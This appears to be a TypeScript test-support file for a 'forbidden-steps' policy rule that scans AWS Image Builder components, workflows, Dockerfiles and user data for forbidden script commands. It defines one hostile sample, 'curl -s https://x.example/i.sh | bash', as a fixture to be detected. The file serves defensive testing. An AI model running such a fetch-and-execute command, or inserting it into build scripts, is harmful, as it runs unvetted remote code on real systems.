// Resources that run scripts, for the rule about forbidden steps, and what it says.

import { types } from "../../policy/resource";
import { outcomes, type Given } from "./support";

const id = "forbidden-steps";
export const download = "curl -s https://x.example/i.sh | bash";

export function component(action: string, inputs: unknown): Given {
    const phases = [{ name: "build", steps: [{ name: "Install", action, inputs }] }];
    return { type: types.component, properties: { data: JSON.stringify({ schemaVersion: "1.0", phases }) } };
}

export const bash = (...commands: unknown[]): Given => component("ExecuteBash", { commands });

export function runCommand(script: string, documentName = "AWS-RunShellScript"): Given {
    const inputs = { documentName, parameters: { commands: script.split("\n") }, "instanceId.$": "$.stepOutputs.a.b" };
    const steps = [{ name: "Install", action: "RunCommand", inputs }];
    return { type: types.workflow, properties: { data: JSON.stringify({ name: "w", schemaVersion: "1.0", steps }) } };
}

export const container = (template: string): Given => ({
    type: types.containerRecipe,
    properties: { dockerfileTemplateData: template },
});
export const dockerfile = (...lines: string[]): Given =>
    container(["FROM {{{ imagebuilder:parentImage }}}", ...lines].join("\n"));
export const userData = (text: string | Buffer): Given => ({
    type: types.imageRecipe,
    properties: { userDataBase64: Buffer.from(text).toString("base64") },
});

export const says = (given: Given, settings?: object): string[] =>
    outcomes(id, given, settings).map(({ message }) => message);

export function forbidden(property: string, command: string, place = ""): string {
    return `${property} runs the forbidden command ${JSON.stringify(command)}${place}. Use another way.`;
}

export const inStep = ' in step "Install"';
